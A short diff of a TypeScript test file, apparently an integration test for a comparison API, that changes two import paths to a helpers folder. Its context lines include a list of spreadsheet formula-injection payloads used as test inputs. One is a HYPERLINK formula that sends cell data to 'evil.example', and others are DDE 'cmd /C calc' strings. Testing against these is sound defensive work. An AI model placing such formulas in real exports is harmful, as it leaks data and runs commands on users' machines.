@@ -12,8 +12,8 @@ import { closePhotos, cardOf, frameOf } from '../helpers/photos.js';
 import { tempDir } from '../helpers/tmp.js';
 import { figure } from './harness/figures.js';
 import { postJson, request } from './harness/http.js';
-import { ADMIN, seededDataDir, SUPERVISOR } from './harness/seed.js';
-import { startServerProcess, type ServerProcess } from './harness/server-process.js';
+import { ADMIN, seededDataDir, SUPERVISOR } from '../helpers/seed.js';
+import { startServerProcess, type ServerProcess } from '../helpers/server-process.js';
 
 const COMPARE = '/SophonMatch/api/compare';
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1'];
